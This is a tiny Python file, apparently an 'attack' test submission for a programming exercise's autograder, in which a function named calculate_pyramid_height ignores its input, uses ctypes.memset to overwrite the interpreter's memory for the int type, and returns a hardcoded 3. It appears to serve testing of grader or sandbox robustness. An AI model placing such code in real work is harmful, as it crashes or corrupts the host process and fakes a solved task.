"""Overwrites memory of the interpreter's own with ones."""
# attack: week=03 exercise=pyramid
import ctypes


def calculate_pyramid_height(number_of_blocks):
    ctypes.memset(id(int), 255, 4096)
    return 3
